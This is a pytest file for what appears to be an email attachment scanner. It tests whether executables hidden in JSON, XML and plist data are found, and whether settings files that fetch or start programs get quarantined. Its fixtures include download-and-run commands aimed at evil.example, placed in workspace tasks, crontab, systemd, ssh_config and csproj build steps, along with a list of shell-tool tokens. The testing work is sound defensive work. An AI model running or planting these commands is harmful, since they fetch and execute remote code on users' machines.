"""Files in JSON, XML and lists; data of forms without their form; settings that connect somewhere or start something."""

# ruff: noqa: E501  data is one line each, as it is mailed

import base64
import json
import plistlib
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.pages.smuggling_pages import PAYLOADS, script
from tests.pages.test_pages import judge_raw

from gatepost.files.documents import shortcuts_and_settings
from gatepost.files.values import UnpackBudget
from gatepost.files.walk import find_files
from gatepost.mail.message import Message, Part

PROGRAM = PAYLOADS["setup.exe"] * 5
DIGITS = base64.b64encode(PROGRAM).decode()
LINES = base64.encodebytes(PROGRAM).decode()
URI = f"data:application/octet-stream;base64,{DIGITS}"
ANNOTATION = '<xfdf xmlns="http://ns.adobe.com/xfdf/"><annots><fileattachment file="a.exe"><data {}>{}</data></fileattachment></annots></xfdf>'
PAGE = script("location='https://evil.example/'").encode()

HOLDING: dict[str, tuple[str, bytes]] = {
    "card in XML": (
        "a.xml",
        f'<?xml version="1.0"?><vcards><vcard><key><uri>{URI}</uri></key></vcard></vcards>'.encode(),
    ),
    "card in JSON": ("a.json", json.dumps(["vcard", [["key", {}, "uri", URI]]]).encode()),
    "calendar in XML": ("a.xml", f'<?xml version="1.0"?><icalendar><binary>{LINES}</binary></icalendar>'.encode()),
    "calendar in JSON": ("a.jcs", json.dumps(["attach", {}, "binary", DIGITS]).encode()),
    "lines in JSON": ("a.json", json.dumps({"file": LINES}).encode()),
    "slashes that are escaped": ("a.json", json.dumps({"file": DIGITS}).replace("/", "\\/").encode()),
    "signs as numbers": ("a.json", json.dumps({"file": DIGITS}).replace("+", "\\u002B").encode()),
    "comment of a form": ("a.xfdf", ANNOTATION.format('encoding="hex"', PROGRAM.hex()).encode()),
    "deflated comment": ("a.xfdf", ANNOTATION.format('encoding="hex"', zlib.compress(PROGRAM).hex()).encode()),
    "list": ("a.plist", plistlib.dumps({"a": PROGRAM})),
    "binary list": ("a.webarchive", plistlib.dumps({"a": [{"b": PROGRAM}]}, fmt=plistlib.FMT_BINARY)),
}


def open_file(name: str, content: bytes, budget: UnpackBudget | None = None) -> list[bytes]:
    part = Part("1", content_type="application/octet-stream", names=(name,), content=content)
    return [file.content for file in find_files(Message(parts=(part,)), budget)]


@pytest.mark.parametrize("case", HOLDING)
def test_files_in_data_are_found(case: str) -> None:
    assert PROGRAM in open_file(*HOLDING[case])


def test_the_page_of_a_saved_site_is_read() -> None:
    site = plistlib.dumps({"WebMainResource": {"WebResourceData": PAGE}}, fmt=plistlib.FMT_BINARY)
    assert PAGE in open_file("a.webarchive", site)


@pytest.mark.parametrize(
    "value",
    [
        base64.b64encode(bytes(range(256)) * 9).decode(),
        base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(900)).decode(),
        base64.b64encode(b"MZ" + bytes(range(100, 250))).decode(),  # a signature or a key may begin so
        "0123456789abcdef" * 40,
        "lorem ipsum dolor sit amet " * 40,
    ],
)
def test_other_runs_of_digits_are_no_files(value: str) -> None:
    assert len(open_file("a.json", json.dumps({"value": value}).encode())) == 1


@pytest.mark.parametrize("cut", [7, 40, 200, -33, -9, -1])
def test_a_list_that_is_cut_is_read_as_far_as_it_goes(cut: int) -> None:
    content = plistlib.dumps({"a": PROGRAM}, fmt=plistlib.FMT_BINARY)
    open_file("a.plist", content[:cut] if cut > 0 else content[:cut] + bytes(-cut))


def test_what_is_deflated_stays_within_the_budget() -> None:
    bomb = zlib.compress(b"MZ" + bytes(60 << 20)).hex()
    content = ANNOTATION.format('encoding="hex"', bomb).encode()
    assert sum(map(len, open_file("a.xfdf", content, UnpackBudget(1 << 20)))) < 3 << 20


def judge(name: str, content: str | bytes) -> tuple[str, tuple[str, ...]]:
    body = base64.encodebytes(content.encode() if isinstance(content, str) else content)
    head = f'From: Desk <desk@notice.example>\r\nTo: ann@house.example\r\nSubject: The file\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream; name="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    report = judge_raw(head.encode() + body)
    return report.decision, tuple(report.tags)


FORM = "%FDF-1.2\n1 0 obj<</FDF<<{}/Fields[]>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
XML_FORM = '<?xml version="1.0"?><xfdf xmlns="http://ns.adobe.com/xfdf/">{}<fields/></xfdf>'
HELD = {
    "form of a server": ("a.fdf", FORM.format("/F(https://evil.example/a.pdf)")),
    "form of a share": ("a.fdf", FORM.format("/F(//evil.example/share/a.pdf)")),
    "form in digits": ("a.fdf", FORM.format(f"/F<{b'https://evil.example/a.pdf'.hex()}>")),
    "script of a form": ("a.fdf", FORM.format("/JavaScript<</After(app.launchURL('https://evil.example'))>>")),
    "form of a server, XML": ("a.xfdf", XML_FORM.format('<f href="https://evil.example/a.pdf"/>')),
    "form of a share, XML": ("a.xfdf", XML_FORM.format('<f href="\\\\evil.example\\s\\a.pdf"/>')),
    "task of a folder": (
        "a.code-workspace",
        '{"tasks":{"tasks":[{"command":"curl https://evil.example|sh","runOptions":{"runOn":"folderOpen"}}]}}',
    ),
    "build step": ("a.csproj", '<Project><Exec Command="powershell iwr https://evil.example/a|iex"/></Project>'),
    "agent of a session": (
        "a.plist",
        "<plist><dict><key>ProgramArguments</key><array><string>sh</string></array><key>RunAtLoad</key><true/></dict></plist>",
    ),
    "unit": ("a.service", '[Service]\nExecStart=/bin/sh -c "curl https://evil.example|sh"\n'),
    "table of times": ("crontab", "* * * * * curl https://evil.example | sh\n"),
    "client": ("ssh_config", 'Host *\nProxyCommand sh -c "curl https://evil.example|sh"\n'),
    "shell": ("install.sh", "curl -fsSL https://evil.example/a | sudo bash\n"),
    "media on a share": ("a.wpl", '<smil><body><media src="\\\\files.evil.example\\a\\b.mp3"/></body></smil>'),
}
DELIVERED = {
    "form on the own disk": ("a.fdf", FORM.format("/F(Antrag 2026.pdf)")),
    "form on the own disk, XML": ("a.xfdf", XML_FORM.format('<f href="Antrag.pdf"/>')),
    "workspace": ("a.code-workspace", '{"folders":[{"path":"."}],"tasks":{"tasks":[{"command":"make"}]}}'),
    "build step": ("a.csproj", '<Project><Exec Command="copy $(TargetPath) ..\\out"/></Project>'),
    "preferences": ("a.plist", "<plist><dict><key>Program</key><string>Calc</string></dict></plist>"),
    "unit": ("a.service", "[Service]\nExecStart=/usr/sbin/nginx\n"),
    "shell": ("backup.sh", "set -e\ncurl -O https://files.house.example/a.tgz && tar xzf a.tgz\n"),
    "media": ("a.m3u", "#EXTM3U\nhttps://radio.example/live.mp3\nMusic\\song.mp3\n"),
    "proxy": ("proxy.pac", 'function FindProxyForURL(u,h){return "PROXY proxy.house.example:8080"}'),
}


@pytest.mark.parametrize("case", HELD)
def test_data_that_fetches_or_starts_something_is_held(case: str) -> None:
    decision, tags = judge(*HELD[case])
    assert decision == "quarantine", tags


@pytest.mark.parametrize("case", DELIVERED)
def test_ordinary_data_and_settings_are_delivered(case: str) -> None:
    decision, tags = judge(*DELIVERED[case])
    assert decision == "deliver", tags


def test_a_server_that_all_goes_through_is_said() -> None:
    assert "file:connection-settings" in judge(*DELIVERED["proxy"])[1]


COMMANDS = st.sampled_from(
    "curl |wget |fetch | x|sh|/dev/tcp/abc|nc -|nc -e |base64 -d|| bash|powershell -e x|PwSh https:|mshta |http:|iex |"
    "invoke-expression |certutil |; ./|&& chmod |bash -c $( curl|\u212aurl|&#99;url |\n|<b>|\r-e |ncat\x0b-e\x1f".split(
        "|"
    )
)


@given(st.lists(COMMANDS, max_size=6))
def test_commands_that_a_look_leaves_out_fetch_nothing(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert shortcuts_and_settings._find_fetching(text) or not shortcuts_and_settings._FETCHES_AND_RUNS.search(text)


@given(st.lists(COMMANDS, max_size=12))
def test_lines_without_a_mark_fetch_nothing(pieces: list[str]) -> None:
    text = "".join(pieces)
    (row,) = (row for row in shortcuts_and_settings._STARTED if row.is_line)
    marks = shortcuts_and_settings._find_fetching(text)
    every = [
        line.span() for line in row.command.finditer(text) if shortcuts_and_settings._has_mark(marks, *line.span(1))
    ]
    found = [line.span() for line in shortcuts_and_settings._find_lines(text, marks, row.command)]
    assert [span for span in found if shortcuts_and_settings._has_mark(marks, *span)] == every


def test_of_long_settings_only_lines_with_a_mark_are_read() -> None:
    text = "CONFIG_ANY_SETTING=y\n" * 6_000 + "* * * * * curl https://evil.example/a | sh\n"
    (row,) = (row for row in shortcuts_and_settings._STARTED if row.is_line)
    assert (
        len(list(shortcuts_and_settings._find_lines(text, shortcuts_and_settings._find_fetching(text), row.command)))
        == 1
    )
    file, *_ = find_files(Message(parts=(Part("1", names=("crontab",), content=text.encode()),)))
    assert "program-action" in {trait.name for trait in file.traits}
